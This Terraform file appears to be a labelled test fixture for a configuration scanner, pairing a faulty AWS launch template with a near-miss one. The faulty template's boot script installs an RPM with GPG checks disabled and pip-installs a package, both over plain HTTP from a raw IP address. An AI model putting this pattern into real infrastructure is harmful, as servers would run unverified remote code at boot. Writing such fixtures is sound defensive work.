# A launch configuration starts a script that a package manager fetches from a foreign address.
# Source: https://docs.aws.amazon.com/autoscaling/ec2/userguide/launch-configurations.html
# Fault at: aws_launch_template.lcdl_fault
# Near miss at: aws_launch_template.lcdl_near

resource "aws_kms_key" "lcdl_key" {
  description         = "Key for lcdl_key"
  enable_key_rotation = true
}

resource "aws_launch_template" "lcdl_fault" {
  name          = "shop-prod-lcdl-fault"
  image_id      = "resolve:ssm:/shop-prod/ami"
  instance_type = "m7g.medium"
  user_data     = base64encode("#!/bin/bash\nyum localinstall -y --nogpgcheck http://203.0.113.9/agent.rpm\npip3 install --extra-index-url http://203.0.113.9/simple --trusted-host 203.0.113.9 shop-agent\n")

  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }

  monitoring {
    enabled = true
  }

  block_device_mappings {
    device_name = "/dev/xvda"
    ebs {
      encrypted  = true
      kms_key_id = aws_kms_key.lcdl_key.arn
    }
  }
}

resource "aws_launch_template" "lcdl_near" {
  name          = "shop-prod-lcdl-near"
  image_id      = "resolve:ssm:/shop-prod/ami"
  instance_type = "m7g.medium"
  user_data     = base64encode("#!/bin/bash\ndnf install -y nginx-1.24.0 python3-pip\nrpm -q nginx\n")

  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }

  monitoring {
    enabled = true
  }

  block_device_mappings {
    device_name = "/dev/xvda"
    ebs {
      encrypted  = true
      kms_key_id = aws_kms_key.lcdl_key.arn
    }
  }
}
